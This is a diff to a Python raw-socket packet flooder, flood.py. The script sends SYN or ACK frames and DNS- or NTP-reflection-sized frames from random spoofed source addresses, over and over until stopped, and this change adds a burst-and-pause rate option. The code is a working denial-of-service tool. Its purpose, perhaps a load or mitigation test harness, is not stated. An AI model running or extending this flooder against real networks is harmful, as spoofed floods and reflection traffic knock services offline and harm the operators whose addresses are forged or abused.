@@ -1,11 +1,12 @@
-"""A sender of raw frames: flood.py INTERFACE MAC ADDRESS PORT [KIND [COUNT [SOURCE]]]; from random sources where none is named, without a count
-until it is ended. With a count each frame is sent once; else 5000 are sent over and over."""
+"""A sender of raw frames: flood.py INTERFACE MAC ADDRESS PORT [KIND [COUNT [SOURCE [BURST]]]]; from random sources where none is named, without a count
+until it is ended. With a count each frame is sent once; else 5000 are sent over and over, with a rest of a millisecond after each BURST."""
 import ipaddress
 import os
 import random
 import socket
 import struct
 import sys
+import time
 
 TCP = {"syn": 2, "ack": 16}
 REFLECTION = {"dns": (53, 512), "ntp": (123, 468)}  # source port, bytes
@@ -64,15 +65,17 @@ def frame(mac, target, port, kind, rand, source=None):
     return mac + b"\x02\x00\x00\x00\x00\x01" + ethernet + head + data
 
 
-def main(interface, mac, target, port, kind="syn", count=0, source=None):
+def main(interface, mac, target, port, kind="syn", count=0, source=None, burst=0):
     rand = random.Random(os.getpid())
     out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     out.bind((interface, 0))
     frames = [frame(bytes.fromhex(mac), ipaddress.ip_address(target), int(port), kind, rand, source) for _ in range(int(count) or 5000)]
     print("ready", flush=True)
     while True:
-        for f in frames:
+        for i, f in enumerate(frames):
             out.send(f)
+            if int(burst) and i % int(burst) == 0:
+                time.sleep(0.001)
         if int(count):
             return
 
